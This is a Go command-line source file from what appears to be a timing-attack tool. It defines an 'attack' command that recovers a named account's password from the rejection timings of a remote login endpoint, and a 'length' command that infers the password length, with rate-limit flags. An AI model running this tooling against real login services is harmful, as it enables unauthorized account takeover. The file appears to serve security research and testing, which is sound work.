package main

import (
	"fmt"

	"github.com/spf13/cobra"

	timingattack "github.com/senadmustafi/Timing-attack"
	"github.com/senadmustafi/Timing-attack/internal/remote"
)

var (
	attackURL     string
	attackAccount string
	attackLength  int
	attackRate    float64
	attackBurst   int
	lengthMax     int
)

// attackCmd attacks a login endpoint over HTTP
var attackCmd = &cobra.Command{
	Use:   "attack",
	Short: "Recover a password from a remote login endpoint",
	Long: `Posts login attempts to --url and recovers the password of --account from
rejection timings. Only point this at targets you are authorized to test.`,
	RunE: func(cmd *cobra.Command, args []string) error {
		ctx, cancel := signalContext()
		defer cancel()

		client, err := newRemoteClient()
		if err != nil {
			return err
		}
		defer client.Close()

		c := withProfile(cfg, timingattack.RemoteNetwork)
		opts := append(c.Options(), timingattack.WithLogger(logger))
		if verbose {
			opts = append(opts, timingattack.WithProgress(stepPrinter(cmd.OutOrStdout())))
		}

		res, err := timingattack.Crack(ctx, client, account(), c.Attack.MaxLength, attackLength, opts...)
		if res != nil {
			renderResult(cmd.OutOrStdout(), res, c.Attack.TopN)
		}
		return err
	},
}

// lengthCmd runs only the length inference
var lengthCmd = &cobra.Command{
	Use:   "length",
	Short: "Infer the password length and print the ranking",
	Long: `Runs the length inference phase only. Without --url the built-in target is
measured in process.`,
	RunE: func(cmd *cobra.Command, args []string) error {
		ctx, cancel := signalContext()
		defer cancel()

		maxLen := lengthMax
		if maxLen == 0 {
			maxLen = cfg.Attack.MaxLength
		}

		var oracle timingattack.Oracle
		c := cfg
		if attackURL != "" {
			client, err := newRemoteClient()
			if err != nil {
				return err
			}
			defer client.Close()
			oracle = client
			c = withProfile(cfg, timingattack.RemoteNetwork)
		} else {
			v, err := newVerifier(ctx, cfg)
			if err != nil {
				return err
			}
			oracle = v
		}

		opts := append(c.Options(), timingattack.WithLogger(logger))
		length, table, err := timingattack.InferLength(ctx, oracle, account(), maxLen, opts...)
		if err != nil {
			return err
		}
		renderRanking(cmd.OutOrStdout(), table, c.Attack.TopN)
		fmt.Fprintf(cmd.OutOrStdout(), "%s %d\n", titleStyle.Render("Most likely length:"), length)
		return nil
	},
}

func init() {
	attackCmd.Flags().StringVar(&attackURL, "url", "", "Login endpoint (default from config)")
	attackCmd.Flags().StringVar(&attackAccount, "account", "", "Account to attack (default from config)")
	attackCmd.Flags().IntVar(&attackLength, "length", 0, "Known password length (skips length inference)")
	attackCmd.Flags().Float64Var(&attackRate, "rate", 0, "Requests per second (default from config, 0 = unpaced)")
	attackCmd.Flags().IntVar(&attackBurst, "burst", 0, "Rate limiter burst (default from config)")

	lengthCmd.Flags().StringVar(&attackURL, "url", "", "Login endpoint; empty measures the built-in target")
	lengthCmd.Flags().StringVar(&attackAccount, "account", "", "Account to measure (default from config)")
	lengthCmd.Flags().IntVar(&lengthMax, "max-len", 0, "Try lengths below this bound (default from config)")
}

func account() string {
	if attackAccount != "" {
		return attackAccount
	}
	return cfg.Target.Account
}

func newRemoteClient() (*remote.Client, error) {
	url := attackURL
	if url == "" {
		url = cfg.Target.URL
	}
	rate, burst := cfg.Target.RateLimit, cfg.Target.Burst
	if attackRate > 0 {
		rate = attackRate
	}
	if attackBurst > 0 {
		burst = attackBurst
	}
	return remote.NewClient(url, remote.WithRateLimit(rate, burst))
}
